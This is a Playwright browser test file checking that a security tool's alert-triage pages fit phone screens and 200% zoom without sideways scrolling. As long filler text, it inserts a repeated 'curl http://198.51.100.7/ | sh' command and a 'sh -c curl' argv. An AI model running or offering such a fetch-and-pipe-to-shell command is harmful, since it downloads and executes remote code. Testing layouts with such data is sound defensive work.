"""Triage on a telephone, and zoomed to 200 %: the first alert is on the first screen, and nothing scrolls sideways."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from drift.alerts.actions import triage
from drift.alerts.models import Alert
from tests.browser.test_alerts_page import estate, send, violations
from tests.unit.drift.alerts.conftest import Estate, save_reviewed
from tests.unit.drift.alerts.test_suppression_rules import TOOLS

__all__ = ["estate"]
pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
Open = Callable[..., Page]
SIZES = {
    "a telephone": {"width": 390, "height": 844},
    "1440 px at 200 %": {"width": 720, "height": 450},
    "1280 px at 200 %": {"width": 640, "height": 400},
}
SIDEWAYS = """() => [document.documentElement, ...document.querySelectorAll("main *, dialog[open] *")].filter((each) =>
    each.scrollWidth > each.clientWidth + 1 && ["auto", "scroll"].includes(getComputedStyle(each).overflowX)
    || each === document.documentElement && each.scrollWidth > innerWidth
).map((each) => each.className || each.localName)"""
"""What a reader would have to scroll sideways."""


@pytest.mark.parametrize(
    ("size", "colours"), list(zip(SIZES.values(), ("light", "dark", "light"), strict=True)), ids=SIZES
)
def test_the_first_alert_is_on_the_first_screen_and_nothing_scrolls_sideways(
    estate: Estate, open_as: Open, operator: Any, size: dict[str, int], colours: str
) -> None:
    send(estate, *(f"/tmp/a-rather-long-directory/tool-{number}" for number in range(9)))
    send(estate, "/tmp/x", process__argv=["sh", "-c", "curl " + "a" * 2_000])
    save_reviewed(operator, TOOLS)
    page = open_as(operator, "/alerts/", viewport=size, color_scheme=colours)
    site = page.url.split("/alerts/")[0]
    first = page.locator("#alerts tbody tr").first
    expect(first.locator(".what")).to_be_in_viewport(ratio=1)
    expect(first.get_by_label("Select alert")).to_be_in_viewport(ratio=1)
    pk = Alert.objects.latest("pk").pk
    found = {}
    for path in (
        *("/alerts/", "/alerts/?group=cluster", "/alerts/?group=incident", "/alerts/?view=incidents"),
        *(f"/alerts/{pk}/?tab={tab}" for tab in ("details", "why", "timeline", "tree", "action")),
        *("/alerts/suppression/", f"/alerts/suppression/rule/?alert={pk}", f"/alerts/decide/?alert={pk}:1"),
    ):
        page.goto(site + path)
        page.wait_for_load_state()
        if faults := [*page.evaluate(SIDEWAYS), *violations(page)]:
            found[path] = faults
    assert found == {}


@pytest.mark.parametrize("size", SIZES.values(), ids=SIZES)
def test_long_names_and_labels_are_read_without_scrolling_sideways(
    estate: Estate, open_as: Open, operator: Any, size: dict[str, int]
) -> None:
    long = "a-name-that-is-longer-than-any-screen-is-wide-" * 5
    labels = {f"example.com/{long[:60]}{number}": long[:60] for number in range(4)}
    place: dict[str, Any] = {
        "container__namespace": long[:60],
        "container__pod_name": long,
        "container__pod_labels": labels,
    }
    send(estate, f"/opt/{long}/{long}", **place, container__image_name=f"registry.example.com/{long}:1")
    alert = Alert.objects.get()
    page = open_as(operator, "/alerts/", viewport=size)
    site, found = page.url.split("/alerts/")[0], {}
    for path in (
        *("/alerts/", "/alerts/?view=incidents", "/alerts/?group=image", f"/alerts/incidents/{alert.incident_id}/"),
        *(f"/alerts/{alert.pk}/?tab={tab}" for tab in ("details", "why", "timeline", "action")),
        f"/alerts/suppression/rule/?alert={alert.pk}",
    ):
        page.goto(site + path)
        page.wait_for_load_state()
        if faults := page.evaluate(SIDEWAYS):
            found[path] = faults
        heading = page.locator("h1").bounding_box()
        assert heading is not None
        assert heading["width"] > size["width"] * 0.6, f"{path}: what is beside the heading takes its place"
    assert found == {}


@pytest.mark.parametrize("size", [*SIZES.values(), {"width": 1440, "height": 900}], ids=[*SIZES, "1440 px"])
def test_code_in_a_comment_is_read_without_scrolling_sideways(
    estate: Estate, open_as: Open, operator: Any, size: dict[str, int]
) -> None:
    send(estate, "/tmp/first")
    alert = Alert.objects.get()
    triage.comment(operator, alert, "```\n" + "curl http://198.51.100.7/ | sh; " * 20 + "\n```\n\n" + "a" * 300)
    page = open_as(operator, f"/alerts/{alert.pk}/?tab=timeline", viewport=size)
    assert page.evaluate(SIDEWAYS) == []
    page.goto(page.url.replace("?tab=timeline", "report/"))
    page.emulate_media(media="print")
    assert page.evaluate(SIDEWAYS) == []


def test_the_names_of_an_incident_s_files_are_not_cut_into_syllables(
    estate: Estate, open_as: Open, operator: Any
) -> None:
    send(estate, *(f"/usr/lib/tool/part-{number}" for number in range(3)))
    pk = Alert.objects.earliest("pk").incident_id
    page = open_as(operator, f"/alerts/incidents/{pk}/", viewport=SIZES["a telephone"])
    name = page.locator("#alerts .path").first.bounding_box()
    assert name is not None
    assert name["height"] < 48, "at most two lines"
    page.goto(page.url.replace(f"incidents/{pk}/", f"{Alert.objects.earliest('pk').pk}/report/"))
    page.set_viewport_size({"width": 680, "height": 960})  # A4 between its margins
    page.emulate_media(media="print")
    heads = page.locator("thead th").evaluate_all("all => all.map((each) => each.offsetHeight)")
    assert max(heads) < 45, "no heading is cut into letters"


@pytest.mark.parametrize("size", SIZES.values(), ids=SIZES)
def test_alerts_are_dismissed_and_suppressed_in_panels_that_fit(
    estate: Estate, open_as: Open, operator: Any, size: dict[str, int]
) -> None:
    send(estate, "/tmp/first", "/tmp/second")
    page = open_as(operator, "/alerts/", viewport=size)
    page.get_by_label("Select alert").first.check()
    page.locator("#change-status > summary").click()
    page.get_by_role("button", name="Dismissed").click()
    panel = page.get_by_role("dialog")
    expect(panel.get_by_role("button", name="Dismiss")).to_be_in_viewport(ratio=1)
    assert page.evaluate(SIDEWAYS) == []
    panel.get_by_label("Expected").check()
    panel.get_by_role("button", name="Dismiss").click()
    expect(page.locator("#alerts tbody tr")).to_have_count(1)

    page.locator("#more > summary").click()
    expect(page.get_by_role("link", name="Download CSV report")).to_be_in_viewport(ratio=1)
    page.keyboard.press("Escape")
    page.locator("#alerts tbody tr a").first.click()
    page.get_by_role("navigation", name="Alert tabs").get_by_role("link", name="Take action").click()
    page.get_by_role("link", name="Create suppression rule").click()
    expect(panel.get_by_text("It would have dismissed")).to_be_in_viewport(ratio=1)
    expect(panel.get_by_role("button", name="Apply")).to_be_in_viewport(ratio=1)
    assert page.evaluate(SIDEWAYS) == []
    panel.get_by_label("Rule name").fill("Ours")
    panel.get_by_role("button", name="Apply").click()
    expect(page.locator("#messages")).to_contain_text("saved")
